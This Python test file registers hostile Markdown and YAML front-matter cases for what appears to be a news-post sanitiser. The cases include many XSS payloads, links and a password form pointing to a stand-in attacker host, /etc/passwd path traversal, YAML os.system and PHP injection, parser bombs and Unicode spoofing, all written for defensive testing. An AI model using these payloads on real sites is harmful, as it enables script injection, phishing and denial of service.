"""Markdown and its metadata: code in every place, bombs, tricks with letters, regex bait."""

from __future__ import annotations

import codecs

from tests.hostile.attacks import CALL, HOST, SCRIPT, case, md

CODE = {
    "script": SCRIPT, "script-in-script": f"<scr<script>ipt>{CALL}</scr</script>ipt>", "onerror": f"<img src=x onerror={CALL}>",
    "svg-onload": f"<svg/onload={CALL}>", "iframe": f"<iframe srcdoc='{SCRIPT}'></iframe>", "object": f"<object data=//{HOST}></object>",
    "style": f"<style>body{{background:url(//{HOST})}}</style>", "base": f"<base href=//{HOST}>", "meta": f"<meta http-equiv=refresh content='0;url=//{HOST}'>",
    "form": f"<form action=//{HOST}><input name=mat_khau></form>", "math": f"<math><mi xlink:href='javascript:{CALL}'>x</mi></math>",
    "details": f"<details open ontoggle={CALL}>x</details>", "noscript": f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    "comment": f"<!--><img src=x onerror={CALL}>-->", "cdata": f"<![CDATA[>{SCRIPT}]]>", "half-tag": f"<img src=x onerror={CALL} //",
    "null-in-tag": f"<scr\u200bipt>{CALL}</script>", "template": f"<template>{SCRIPT}</template>", "video": f"<video><source onerror={CALL}></video>",
    "br-handler": f"<br onclick={CALL}>", "sup-style": f"<sup style='background:url(//{HOST})'>x</sup>",
    "link-js": f"[bấm](javascript:{CALL})", "link-js-case": f"[bấm](JaVaScRiPt:{CALL})", "link-js-tab": f"[bấm](java\tscript:{CALL})",
    "link-js-entity": f"[bấm](&#106;avascript:{CALL})", "link-js-entity2": f"[bấm](javascript&colon;{CALL})", "link-js-percent": f"[bấm](javascript%3A{CALL})",
    "link-js-control": f"[bấm](<\x01javascript:{CALL}>)", "link-data": "[bấm](data:text/html;base64,PHNjcmlwdD5hbGVydCg0NzExKTwvc2NyaXB0Pg==)",
    "link-vbscript": f"[bấm](vbscript:{CALL})", "link-file": "[bấm](file:///etc/passwd)", "link-blob": f"[bấm](blob:https://{HOST}/x)",
    "link-title": f'[bấm](https://hanoi.gov.vn "x\\" onclick={CALL}")', "link-quote": f'<https://hanoi.gov.vn/"onmouseover={CALL}>',
    "link-reference": f"[bấm][1]\n\n[1]: javascript:{CALL}", "link-auto": f"<javascript:{CALL}>", "link-protocol-relative": f"[bấm](//{HOST}/)",
    "link-userinfo": f"[dichvucong.gov.vn](https://dichvucong.gov.vn@{HOST}/)", "link-backslash": f"[bấm](https:\\\\{HOST})",
    "link-homograph": "[Cổng dịch vụ](https://dichvucong.g\u043ev.vn/)", "link-punycode": "[Cổng](https://xn--hanoi-2ve.gov.vn/)",
    "link-other": f"[https://dichvucong.gov.vn](https://{HOST}/)", "link-bidi": "[tải](https://hanoi.gov.vn/\u202efdp.exe)", "link-zero-width": "[tải](https://hano\u200bi.gov.vn/)",
    "image-js": f"![x](javascript:{CALL})", "image-data": "![x](data:image/svg+xml;base64,PHN2Zy8+)", "image-far": f"![x](https://{HOST}/dem.gif)",
    "image-alt": f'![x" onerror="{CALL}](anh.jpg)', "image-svg": "![x](hinh.svg)", "image-outside": "![x](../../ngoai.jpg)", "image-absolute": "![x](/etc/passwd)",
    "image-encoded": "![x](..%2f..%2fngoai.jpg)", "image-windows": "![x](..\\..\\ngoai.jpg)", "image-drive": "![x](C:\\ngoai.jpg)", "image-unc": "![x](\\\\may\\chung\\a.jpg)",
    "image-null": "![x](anh.jpg\0.exe)", "image-long": f"![x]({'a' * 5000}.jpg)",
    "code-break": f"```\n</code></pre>{SCRIPT}\n```", "code-language": f"```\"><img/src=x/onerror={CALL}>\nx\n```", "inline-code": f"`</code>{SCRIPT}`",
    "footnote": f"Chữ[^1].\n\n[^1]: {SCRIPT}", "footnote-name": f"Chữ[^\"onclick={CALL}].\n\n[^\"onclick={CALL}]: x", "table": f"|a|\n|-|\n|{SCRIPT}|",
    "heading": f"## {SCRIPT}", "heading-id": f'## a" onclick="{CALL}', "entities": "&lt;script&gt;alert(4711)&lt;/script&gt;", "double-entities": "&amp;lt;script&amp;gt;alert(4711)",
    "utf7": "+ADw-script+AD4-alert(4711)+ADw-/script+AD4-", "quoted-printable": "=3Cscript=3Ealert(4711)=3C/script=3E Th=E1=BB=A7", "jinja": "{{ 7*7 }}{% raw %}{{ config }}",
    "template-js": "${alert(4711)} #{alert(4711)} <%= alert(4711) %>", "xml-decl": "<?xml-stylesheet href='javascript:alert(4711)'?>", "php": "<?php system('id'); ?>",
    "line-separator": f"Chữ\u2028{SCRIPT}\u2029", "terminal": "\x1b]0;pwn\x07\x1b[2J đỏ", "tags-plane": "Chữ\U000e0061\U000e0062 ẩn", "fillers": "Chữ\u3164\u115f\uffa0ẩn",
}  # fmt: skip
for name, danger in CODE.items():
    case(f"body/{name}", {"tin.md": md(f"Mở đầu.\n\n{danger}\n\nKết thúc.")})

FIELDS = (
    "title",
    "summary",
    "author",
    "source",
    "cover_alt",
    "corrections",
    "hashtags",
    "areas",
    "topics",
    "fields",
    "audience",
    "id",
)
for key in FIELDS:
    case(f"field/{key}", {"tin.md": md(**{key: f"'\"><img src=x onerror={CALL}>{SCRIPT}'"})})
for key in ("question", "asker", "procedure", "legal_basis", "answered_by"):
    case(
        f"field/qa-{key}",
        {
            "tin.md": md(
                **{
                    "kind": "qa",
                    "question": "Nộp ở đâu?",
                    "answered_by": "UBND",
                    key: f"'\"><img src=x onerror={CALL}>{SCRIPT}'",
                }
            )
        },
    )
for key in ("video", "program", "transcript", "captions", "duration"):
    case(
        f"field/clip-{key}",
        {
            "tin.md": md(
                **{
                    "kind": "clip",
                    "video": "https://youtu.be/HN2026ABCDE",
                    "transcript": "Chào",
                    key: f"'\"><img src=x onerror={CALL}>{SCRIPT}'",
                }
            )
        },
    )
for host in (f"https://youtube.com.{HOST}/watch?v=a", f"https://{HOST}/youtube.com", f"javascript:{CALL}//youtube.com", f"https://youtube.com@{HOST}/",
             f'https://youtu.be/"onload="{CALL}', "https://www.youtube.com/watch?v=../../x", "file:///etc/passwd", "https://youtu.be/" + "a" * 5000):  # fmt: skip
    case(f"video/{host[:40]}", {"tin.md": md(kind="clip", video=f"'{host}'", transcript="Xin chào")})

PATHS = ("../../ngoai.jpg", "/etc/passwd", "..\\..\\ngoai.jpg", "~/ngoai.jpg", "anh/../../../ngoai.jpg", "C:/ngoai.jpg", "file:///etc/passwd", "./././../so-y-te/a.jpg",
         "anh.jpg\\u0000.png", "\\u202egpj.exe", "//" + HOST + "/a.jpg", "con.jpg", "." * 300, "a/" * 2000 + "b.jpg", "%2e%2e%2fngoai.jpg", "．．/ngoai.jpg", "..%c0%af..%c0%afngoai.jpg")  # fmt: skip
for number, path in enumerate(PATHS):
    case(
        f"path/cover-{number}",
        {"tin.md": md(cover=f'"{path}"'.replace("..\\..\\", "..\\\\..\\\\"), cover_alt="Quang cảnh")},
        "reject",
    )
    case(
        f"path/captions-{number}",
        {
            "tin.md": md(
                kind="clip",
                video="https://youtu.be/HN2026ABCDE",
                captions=f'"{path}"'.replace("..\\..\\", "..\\\\..\\\\"),
            )
        },
        "reject",
    )
case("path/id", {"tin.md": md(id='"../../../../etc/passwd"')})
case("path/id-dots", {"tin.md": md(id='".."')})
case("path/id-long", {"tin.md": md(id="a" * 100_000)})
case("path/cover-itself", {"tin.md": md(cover="tin.md", cover_alt="x")}, "reject")
case("path/cover-report", {"tin.md": md(cover="KET-QUA.html", cover_alt="x"), "KET-QUA.html": SCRIPT}, "reject")

LETTERS = {
    "bidi-title": md(title='"Hồ sơ \u202egpj.exe mới"'), "zero-width-title": md(title='"Hồ s\u200bơ m\u2060ới"'), "homograph-title": md(title='"H\u043e s\u043e mới của phường"'),
    "nul": md("a\0b"), "only-nul": "\0" * 5000, "surrogates": md("Chữ \ud800 lạc"), "escaped-surrogate": md(title='"Hồ \\ud800 sơ"'), "noncharacter": md("Chữ \ufffe\uffff"),
    "crlf": md().replace("\n", "\r\n"), "cr": md().replace("\n", "\r"), "bom": "\ufeff" + md(), "bom-in-the-middle": md("Chữ\ufeff ở giữa \ufeff"), "two-boms": "\ufeff\ufeff" + md(),
    "utf16-without-mark": md().encode("utf-16-le"), "utf16-cut": md().encode("utf-16")[:-1], "utf32": md().encode("utf-32"), "utf16-lone": codecs.BOM_UTF16_LE + b"\x00\xd8-\x00",
    "cp1258": md("Thu\u0309 tu\u0323c").encode("cp1258", "replace"), "overlong": md().encode() + b"\xc0\xbcscript\xc0\xbe", "latin1": md("\xe9\xe8" * 50).encode("latin-1", "replace"),
    "zalgo": md("Z" + "\u0301\u0302\u0323" * 3000), "combining-first": md(title='"\u0301\u0302a"'), "emoji-title": md(title='"👨‍👩‍👧‍👦 gia đình 🇻🇳"'), "rtl-text": md("שלום עולם مرحبا"),
    "controls": md("".join(map(chr, range(1, 32)))), "c1": md("".join(map(chr, range(127, 160)))), "one-line-250k": md("chữ " * 60_000), "words-without-space": md("a" * 250_000),
    "tcvn3": md("Thñ tôc hµnh chÝnh t¹i phêng ®· ®îc c¶i c¸ch"), "vni": md("Thuû tuïc haønh chính taïi phöôøng ñaõ ñöôïc"), "mojibake": md("Thá»§ tá»¥c hÃ\xa0nh chÃ\xadnh táº¡i phÆ°á»\x9dng"),
    "hz": md("Tin ~{<:Ky2;VpJ)HK!#~} mới"), "iso2022": md("\x1b$B$3$s\x1b(B"), "percent": md("Th%E1%BB%A7 t%E1%BB%A5c h%C3%A0nh ch%C3%ADnh"), "uescapes": md("Th\\u1ee7 t\\u1ee5c"),
}  # fmt: skip
for name, text in LETTERS.items():
    case(f"letters/{name}", {"tin.md": text})

YAML = {
    "date": md(date="2026-02-30"), "date-sexagesimal": md(date="12:30:45"), "duration-sexagesimal": md(kind="clip", duration="1:30", video="https://youtu.be/HN2026ABCDE", transcript="x"),
    "octal": md(title="0o17"), "norway": md(title="NO", author="yes"), "null": md(title="~"), "float": md(title=".inf"), "merge-key": md(more="a: &a {title: x}\n<<: *a\n"),
    "custom-tag": md(title="!x y"), "python-tag": md(title="!!python/object/apply:os.system ['id']"), "binary-tag": md(title="!!binary aGVsbG8="), "set-tag": md(title="!!set {a, b}"),
    "duplicate": md(more="title: hai\n"), "complex-key": md(more="? [a, b]\n: c\n"), "alias-loop": md(more="a: &a [*a]\n"), "billion-laughs": "---\n" + "".join(
        f"{b}: &{b} [{','.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)).replace("*a", "x") + "---\nx",
    "deep-list": "---\na: " + "[" * 50_000 + "\n---\nx", "deep-map": "---\na: " + "{a: " * 50_000 + "\n---\nx", "deep-indent": "---\n" + "".join(" " * n + f"k{n}:\n" for n in range(500)) + "---\nx",
    "100000-lines": "---\n" + "a: 1\n" * 100_000, "100000-keys": "---\n" + "".join(f"k{n}: 1\n" for n in range(20_000)) + "---\nx", "long-key": "---\n" + "k" * 200_000 + ": 1\n---\nx",
    "long-value": md(title="a" * 200_000), "documents": "---\nkind: article\n---\n---\nkind: qa\n---\nx", "toml": '+++\ntitle = "Tin"\nkind = "article"\n+++\nx', "json": '{"title": "Tin", "kind": "article"}\n\nx',
    "json-fence": '---json\n{"title": "Tin"}\n---\nx', "toml-fence": '---toml\ntitle = "x"\n---\nx', "unclosed": "---\nkind: article\n", "only-fences": "---\n---\n", "tabs": "---\nkind:\tarticle\n\ttitle: x\n---\nx",
    "percent-directive": "---\n%YAML 1.1\n%TAG ! tag:evil,2000:\n---\nx", "anchors": md(more="".join(f"k{n}: &a{n} x\n" for n in range(4000))), "folded": md(title=">-\n  Một\n  hai"), "literal": md(summary="|\n  Một\n  hai"),
    "list-title": md(title="[a, b]"), "map-title": md(title="{a: b}"), "list-root": "---\n- kind: article\n---\nx", "scalar-root": "---\nchỉ chữ\n---\nx", "comment-only": "---\n# x\n---\nx",
    "year-10000": md(date="10000-01-01"), "year-0": md(date="0000-00-00"), "date-digits": md(date="９９９９-１２-３１"), "far-time": md(publish_at="9999-12-31T23:59:59-23:59"), "odd-zone": md(publish_at="2026-11-24T08:00:00+99:99"),
    "huge-number": md(kind="clip", duration="9" * 4000, video="https://youtu.be/HN2026ABCDE", transcript="x"), "roman-numeral": md(date="٢٠٢٦-١١-٢٠"), "hashtags-many": md(hashtags="[" + ",".join(f"t{n}" for n in range(3000)) + "]"),
    "areas-many": md(areas="[" + ",".join(f"vung-{n}" for n in range(3000)) + "]"), "topics-many": md(topics="[" + ",".join(f"N{n}" for n in range(3000)) + "]"), "channels-odd": md(channels="[portal, ../../x, tiktok]"),
}  # fmt: skip
for name, text in YAML.items():
    case(f"yaml/{name}", {"tin.md": text})

FLOODS = {
    "brackets": "[" * 20_000, "brackets-below": "[" * 2_900, "links": "".join(f"[a{n}](https://hanoi.gov.vn/{n}) " for n in range(10_000)), "links-below": "".join(f"[a{n}](https://hanoi.gov.vn/{n}) " for n in range(1_400)),
    "bare-links": "https://hanoi.gov.vn/a " * 1_400, "footnotes": "".join(f"x[^{n}]\n\n[^{n}]: y\n\n" for n in range(10_000)), "footnotes-below": "".join(f"x[^{n}]\n\n[^{n}]: y\n\n" for n in range(1_000)),
    "one-footnote": "x[^1]" * 2_500 + "\n\n[^1]: y", "headings": "# a\n\n" * 10_000, "headings-below": "# a\n\n" * 7_000, "table": "|a|b|\n|-|-|\n" + "|1|2|\n" * 3_800, "wide-table": "|" + "a|" * 3_000 + "\n|" + "-|" * 3_000 + "\n" + "|" + "1|" * 3_000,
    "quotes": ">" * 5_000 + " x", "list-depth": "".join("  " * n + "- x\n" for n in range(400)), "lists": "- x\n" * 14_000, "stars": "*a " * 5_900, "underscores": "_a_" * 1_900, "backticks": "`" * 3_900, "tildes": "~~a" * 1_900,
    "entities": "&amp;" * 5_900, "html": "<b>" * 2_900, "comments": "<!-- " * 2_900, "escapes": "\\" * 100_000, "spaces": " " * 250_000 + "x", "newlines": "\n" * 14_000 + "x", "setext": "a\n=\n" * 7_000, "rules": "***\n" * 1_900,
    "images": "![x](a.jpg) " * 900, "different-images": "".join(f"![x](a{n}.jpg) " for n in range(900)), "references": "".join(f"[a{n}]: https://hanoi.gov.vn\n" for n in range(2_900)) + "[a1]", "smart-links": "www.a.vn " * 20_000, "emails": "a@b.vn " * 30_000,
    "50-mb": "x" * 50_000_000,
}  # fmt: skip
for name, body in FLOODS.items():
    case(f"flood/{name}", {"tin.md": md(body)})

BAIT = {
    "phones": "0912 345 678 ", "identity": "số CCCD 001085012345 ", "almost-identity": "00108501234", "addresses": "số 12 ngõ 3 phố Kim Mã, quận Ba Đình ", "almost-address": "số 1 ngõ 1 ngách 1 hẻm 1 ", "plates": "29A-123.45 ",
    "mails": "an.nguyen@gmail.com ", "almost-mail": "a.a.a.a.a.a.a.a.a.a@", "accounts": "STK 0123456789 ngân hàng ", "births": "sinh ngày 01/01/1980 ", "secrecy": "tối mật ", "secrecy-lines": "MẬT\n", "spaced-secrecy": "T U Y Ệ T ",
    "citations": "Nghị định 61/2018/NĐ-CP ", "almost-citation": "1/1/1/1/1/", "articles": "điểm a khoản 1 Điều 1 ", "procedures": "mã TTHC 1.001193 ", "units": "UBND quận Cầu Giấy ", "dates": "ngày 30 tháng 2 năm 2026 ", "digits": "1 2 3 4 5 6 7 8 9 0 ",
    "dots": "................ ", "dashes": "- - - - - - - ", "capitals": "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM ", "drafts": "DỰ THẢO LẦN 2 ", "names": "Ông Nguyễn Văn An ", "syllables": "hoà thuỷ quý ", "typos": "chuyên đổi số ", "tcvn3": "thñ tôc ",
    "vni": "thuû tuïc ", "mojibake": "á»§á»¥", "half-mojibake": "á»", "percent": "%E1%BB", "utf7": "+AGE", "qp": "=E1=BB", "faces": "một người dân nộp hồ sơ tại quầy ", "numbers-words": "không chín một hai ", "zero-width": "0\u200b9\u200b1\u200b2 ", "cyrillic": "\u0430\u0435\u043e ",
    "fullwidth": "０９１２３４５６７８ ", "roman": "Ⅳ Ⅴ Ⅵ ", "years": "2026 2026 2026 ", "schemes": "javascript:javascript:", "at": "@@@@@@@@ ", "slashes": "/// ", "quotes": "“”\"'«» ", "brackets-round": "((((( ",
}  # fmt: skip
for name, bait in BAIT.items():
    case(f"bait/{name}", {"tin.md": md(bait * (240_000 // len(bait.encode())))})
case("bait/title", {"tin.md": md(title='"' + "0912 345 678 " * 8_000 + '"')})
case(
    "bait/question",
    {
        "tin.md": md(
            kind="qa", question='"' + "số 12 ngõ 3 phố Kim Mã " * 5_000 + '"', answered_by="UBND", masking="dong_y"
        )
    },
)
case("bait/alt", {"tin.md": md("![" + "một người dân nộp hồ sơ tại quầy " * 4_000 + "](a.jpg)")})
case("bait/link-text", {"tin.md": md("[" + "dichvucong.gov.vn " * 8_000 + f"](https://{HOST})")})
case("bait/link-href", {"tin.md": md("[a](https://" + "a." * 50_000 + "vn)")})
